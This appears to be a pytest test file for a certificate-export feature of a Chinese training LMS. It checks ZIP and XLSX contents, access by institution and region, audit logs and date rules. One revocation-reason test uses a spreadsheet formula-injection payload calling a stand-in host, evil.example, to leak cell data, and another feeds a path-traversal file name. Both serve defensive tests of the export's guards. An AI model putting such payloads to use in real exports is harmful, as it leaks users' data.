"""Exporting certificates (issue 14): a ZIP of the real certificate PDFs and an XLSX summary, by class
or by China date of issue; each user exports exactly the certificates they may see."""
import io
import shutil
import subprocess
import zipfile
from datetime import date, datetime, timedelta
from types import SimpleNamespace

import openpyxl
import pytest
from sqlalchemy import select

from lms.audit.models import AuditLog
from lms.core.clock import china_date, utcnow
from lms.core.context import Actor
from lms.core.iddocs import public_mask
from lms.hours import certificates, export
from lms.hours.export import ExportError
from lms.institutions.services import apply_to_class, approve_application

from .conftest import learner_profile, make_class, make_user, ready_course, register, signed_in, valid_id
from .hoursdata import earn_certificate

HEADERS = ["证书编号", "状态", "姓名", "身份证件号码（脱敏）", "培训机构", "班级", "培训类型", "类别", "已计入线上学时",
           "要求线上学时", "课程（学时、考试成绩）", "发证日期", "撤销日期", "撤销原因"]


def approve(learner, training_class, staff):
    application = apply_to_class(learner, training_class, f"T{learner.id_number}", utcnow(), Actor(learner.user))
    approve_application(application, utcnow(), Actor(staff))


@pytest.fixture()
def foshan(db, course, approved_learner, open_class, staff, actor):
    """Two learners of the Foshan institution's class, each with a real certificate."""
    first = earn_certificate(approved_learner, course, open_class)
    second_learner = register(learner_profile(valid_id("44060419900101123"), name="张三"), actor)
    approve(second_learner, open_class, staff)
    second = earn_certificate(second_learner, course, open_class)
    return SimpleNamespace(training_class=open_class, certificates=[first, second],
                           learners=[approved_learner, second_learner])


@pytest.fixture()
def jinan(db, other_institution, other_staff, other_learner, short_video):
    """A learner of the Jinan institution (another region) with a real certificate of its own class."""
    training_class = make_class(db, other_institution)
    course = ready_course(db, other_staff, training_class, [short_video])
    approve(other_learner, training_class, other_staff)
    return earn_certificate(other_learner, course, training_class)


def today() -> str:
    return china_date(utcnow()).isoformat()


def range_url(start=None, end=None) -> str:
    start, end = start or today(), end or today()
    return f"/hours/export.zip?start={start}&end={end}"


def download(client, url) -> zipfile.ZipFile:
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Type"] == "application/zip"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; filename=") and disposition.endswith(".zip")
    assert disposition.isascii()
    assert "no-store" in response.headers["Cache-Control"]
    return zipfile.ZipFile(io.BytesIO(response.data))


def summary_of(archive: zipfile.ZipFile) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(archive.read("summary.xlsx"))).active
    return [["" if cell.value is None else cell.value for cell in row] for row in sheet.iter_rows()]


def numbers_in(archive: zipfile.ZipFile) -> list[str]:
    return [row[0] for row in summary_of(archive)[1:]]


def export_logs():
    return list(_scalars(select(AuditLog).where(AuditLog.action == "hours_export").order_by(AuditLog.id)))


def _scalars(query):
    from lms.extensions import db
    db.session.expire_all()
    return db.session.scalars(query)


# --- by class ---------------------------------------------------------------------------------------

def test_a_class_export_holds_the_summary_and_each_certificate_as_a_real_pdf(db, foshan, staff_client, staff):
    archive = download(staff_client, f"/hours/classes/{foshan.training_class.id}/export.zip")
    numbers = [c.number for c in foshan.certificates]
    assert sorted(archive.namelist()) == sorted(["summary.xlsx"] + [f"{n}.pdf" for n in numbers])
    assert all(name.isascii() for name in archive.namelist())
    rows = summary_of(archive)
    assert rows[0] == HEADERS
    assert len(rows) == 3
    for row, certificate, learner in zip(rows[1:], foshan.certificates, foshan.learners, strict=True):
        facts = certificates.facts_of(certificate)
        assert row == [certificate.number, "有效", learner.name, public_mask(learner.id_number), "佛山市测试培训中心", "测试班",
                       facts.training_type, facts.category, 2, 2, "危险化学品安全基础 2学时，成绩100分",
                       china_date(certificate.issued_at).isoformat(), "", ""]
    for number in numbers:
        document = archive.read(f"{number}.pdf")
        assert document.startswith(b"%PDF-")
        if shutil.which("pdftotext"):
            text = subprocess.run(["pdftotext", "-", "-"], input=document, capture_output=True, check=True).stdout
            assert number in text.decode()
    (log,) = export_logs()
    assert (log.target, log.detail, log.user_id, log.institution_id) == (
        f"class:{foshan.training_class.id}", "2", staff.id, staff.institution_id)


def test_the_summary_is_in_chinese_even_for_a_user_who_reads_english(db, foshan, staff_client):
    archive = download(staff_client, f"/hours/classes/{foshan.training_class.id}/export.zip?lang=en")
    rows = summary_of(archive)
    assert rows[0] == HEADERS and rows[1][1] == "有效"


def test_a_revoked_certificate_shows_revoked_with_its_date_and_the_reason_guarded(db, foshan, staff_client, staff):
    revoked, kept = foshan.certificates
    reason = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
    certificates.revoke(revoked, reason, utcnow(), Actor(staff))
    archive = download(staff_client, f"/hours/classes/{foshan.training_class.id}/export.zip")
    rows = {row[0]: row for row in summary_of(archive)[1:]}
    assert rows[revoked.number][1] == "已撤销"
    assert rows[revoked.number][12:] == [china_date(revoked.revoked_at).isoformat(), "'" + reason]
    assert rows[kept.number][1] == "有效" and rows[kept.number][12:] == ["", ""]
    assert f"{revoked.number}.pdf" in archive.namelist()   # a revoked certificate is exported too, marked so
    sheet = openpyxl.load_workbook(io.BytesIO(archive.read("summary.xlsx"))).active
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_formula_guard_prefixes_every_dangerous_start_and_keeps_numbers(app):
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "'=1"):
        assert export._cell(text) == "'" + text
    assert export._cell("王建国") == "王建国"
    assert export._cell(2.5) == 2.5 and export._cell(8) == 8


def test_zip_member_names_are_ascii_and_stay_in_the_archive_root():
    assert export.member_name("XS2026ABCD1234") == "XS2026ABCD1234.pdf"
    weird = export.member_name("../证书/XS 1")
    assert weird.isascii() and "/" not in weird and ".." not in weird and weird.endswith(".pdf")


def test_an_empty_class_goes_back_to_the_form_with_a_message(db, staff_client, institution):
    empty = make_class(db, institution)
    response = staff_client.get(f"/hours/classes/{empty.id}/export.zip")
    assert response.status_code == 302 and response.headers["Location"].startswith("/hours/export")
    page = staff_client.get(response.headers["Location"]).get_data(as_text=True)
    assert "没有可导出的证书" in page
    assert export_logs() == []


def test_staff_of_another_institution_cannot_export_the_class_and_export_only_their_own(db, foshan, jinan,
                                                                                         app, other_staff):
    client = signed_in(app, other_staff.username)
    assert client.get(f"/hours/classes/{foshan.training_class.id}/export.zip").status_code == 404
    archive = download(client, range_url())
    assert numbers_in(archive) == [jinan.number]
    assert archive.namelist() == ["summary.xlsx", f"{jinan.number}.pdf"]


def test_staff_range_export_holds_their_institution_only(db, foshan, jinan, staff_client):
    archive = download(staff_client, range_url())
    assert numbers_in(archive) == [c.number for c in foshan.certificates]
    assert jinan.number + ".pdf" not in archive.namelist()


# --- regulators and the admin ---------------------------------------------------------------------------

def test_a_regulator_exports_the_certificates_of_their_region(db, foshan, jinan, regulator_client):
    archive = download(regulator_client, range_url())
    assert numbers_in(archive) == [c.number for c in foshan.certificates]
    archive = download(regulator_client, f"/hours/classes/{foshan.training_class.id}/export.zip")
    assert numbers_in(archive) == [c.number for c in foshan.certificates]


def test_a_regulator_of_another_region_gets_none_of_them(db, foshan, app, other_regulator):
    client = signed_in(app, other_regulator.username)
    assert client.get(f"/hours/classes/{foshan.training_class.id}/export.zip").status_code == 404
    response = client.get(range_url(), follow_redirects=True)
    assert response.headers["Content-Type"].startswith("text/html")
    assert "没有可导出的证书" in response.get_data(as_text=True)
    assert export_logs() == []


def test_the_regulator_of_the_other_region_exports_theirs(db, foshan, jinan, app, other_regulator):
    archive = download(signed_in(app, other_regulator.username), range_url())
    assert numbers_in(archive) == [jinan.number]


def test_the_admin_exports_every_region(db, foshan, jinan, admin_client):
    archive = download(admin_client, range_url())
    assert sorted(numbers_in(archive)) == sorted([c.number for c in foshan.certificates] + [jinan.number])
    (log,) = export_logs()
    assert log.target == f"range:{today()}..{today()}" and log.detail == "3"


# --- the rules on dates and counts ----------------------------------------------------------------------

def test_the_range_is_of_china_dates(db, foshan, staff):
    early, late = foshan.certificates
    early.issued_at = datetime(2026, 3, 1, 15, 59)   # 23:59 on 1 March in China
    late.issued_at = datetime(2026, 3, 1, 16, 0)     # 00:00 on 2 March in China
    db.session.commit()
    assert export.certificates_for_export(staff, start=date(2026, 3, 1), end=date(2026, 3, 1)) == [early]
    assert export.certificates_for_export(staff, start=date(2026, 3, 2), end=date(2026, 3, 2)) == [late]
    assert export.certificates_for_export(staff, start=date(2026, 3, 1), end=date(2026, 3, 2)) == [early, late]
    with pytest.raises(ExportError) as refused:
        export.certificates_for_export(staff, start=date(2026, 3, 3), end=date(2026, 3, 31))
    assert refused.value.code == "empty"
    # a class export may be narrowed by date too
    assert export.certificates_for_export(staff, class_id=foshan.training_class.id, start=date(2026, 3, 2),
                                          end=date(2026, 3, 2)) == [late]


def test_range_rules(db, foshan, staff):
    def code(start, end):
        with pytest.raises(ExportError) as refused:
            export.certificates_for_export(staff, start=start, end=end)
        return refused.value.code
    assert code(None, None) == "dates_required"
    assert code(date(2026, 3, 1), None) == "dates_required"
    assert code(date(2026, 3, 2), date(2026, 3, 1)) == "reversed"
    assert code(date(2024, 1, 1), date(2025, 1, 1)) == "range_too_long"    # 367 days
    assert code(date(2025, 1, 1), date(2026, 1, 1)) == "empty"             # 366 days: allowed, none issued then
    for text, expected in (("", "dates_required"), ("2026-02-30", "bad_date"), ("20260301", "bad_date"),
                           ("1999-12-31", "bad_date"), ("2100-01-01", "bad_date")):
        with pytest.raises(ExportError) as refused:
            export.parse_day(text)
        assert refused.value.code == expected, text
    assert export.parse_day(" 2026-03-01 ") == date(2026, 3, 1)


def test_too_many_certificates_are_refused(db, foshan, staff, app, monkeypatch):
    monkeypatch.setitem(app.config, "LMS_EXPORT_MAX_CERTIFICATES", 2)
    china_day = china_date(utcnow())
    assert len(export.certificates_for_export(staff, start=china_day, end=china_day)) == 2
    monkeypatch.setitem(app.config, "LMS_EXPORT_MAX_CERTIFICATES", 1)
    with pytest.raises(ExportError) as refused:
        export.certificates_for_export(staff, class_id=foshan.training_class.id)
    assert (refused.value.code, refused.value.details) == ("too_many", {"limit": 1})


def test_bad_inputs_go_back_to_the_form_with_a_chinese_message_and_no_zip(db, foshan, staff_client, app,
                                                                          monkeypatch):
    day = date.fromisoformat(today())
    cases = [
        ("/hours/export.zip", "请选择开始日期和结束日期"),
        (f"/hours/export.zip?start={day}", "请选择开始日期和结束日期"),
        (range_url("2026-13-01", day), "请按 YYYY-MM-DD 格式填写日期"),
        (range_url("yesterday", day), "请按 YYYY-MM-DD 格式填写日期"),
        (range_url("1900-01-01", "1900-01-02"), "请按 YYYY-MM-DD 格式填写日期"),
        (range_url(day, day - timedelta(days=1)), "开始日期不能晚于结束日期"),
        (range_url(day - timedelta(days=366), day), "日期范围最多 366 天"),
        (range_url("2001-01-01", "2001-01-31"), "所选范围内没有可导出的证书"),
    ]
    for url, message in cases:
        response = staff_client.get(url)
        assert response.status_code == 302, url
        assert response.headers["Location"].startswith("/hours/export?") or \
            response.headers["Location"] == "/hours/export", url
        page = staff_client.get(response.headers["Location"])
        assert page.status_code == 200 and page.headers["Content-Type"].startswith("text/html"), url
        assert message in page.get_data(as_text=True), url
    monkeypatch.setitem(app.config, "LMS_EXPORT_MAX_CERTIFICATES", 1)
    page = staff_client.get(range_url(), follow_redirects=True).get_data(as_text=True)
    assert "符合条件的证书超过 1 份" in page
    assert export_logs() == []


def test_the_form_keeps_the_dates_that_were_refused(db, staff_client):
    page = staff_client.get(range_url("2001-01-01", "2001-01-31"), follow_redirects=True).get_data(as_text=True)
    assert 'value="2001-01-01"' in page and 'value="2001-01-31"' in page


# --- the page and who may use it ----------------------------------------------------------------------------

def test_the_page_offers_a_date_range_and_staff_their_classes(db, foshan, staff_client, institution,
                                                            regulator_client):
    empty = make_class(db, institution)
    page = staff_client.get("/hours/export").get_data(as_text=True)
    assert 'action="/hours/export.zip"' in page and 'method="get"' in page
    assert 'type="date" name="start"' in page and 'type="date" name="end"' in page
    assert f'href="/hours/classes/{foshan.training_class.id}/export.zip"' in page
    assert f'href="/hours/classes/{empty.id}/export.zip"' not in page    # nothing to export there yet
    page = regulator_client.get("/hours/export").get_data(as_text=True)
    assert 'action="/hours/export.zip"' in page and "export-classes" not in page


def test_learners_and_strangers_cannot_export(db, foshan, learner_client, client):
    class_url = f"/hours/classes/{foshan.training_class.id}/export.zip"
    for url in ("/hours/export", range_url(), class_url):
        assert learner_client.get(url).status_code == 403, url
        response = client.get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"], url
    assert export_logs() == []


def test_staff_without_an_institution_export_nothing(db, foshan, app):
    loose = make_user(db, "staff", "staff.loose")
    client = signed_in(app, loose.username)
    assert client.get(f"/hours/classes/{foshan.training_class.id}/export.zip").status_code == 404
    assert "没有可导出的证书" in client.get(range_url(), follow_redirects=True).get_data(as_text=True)
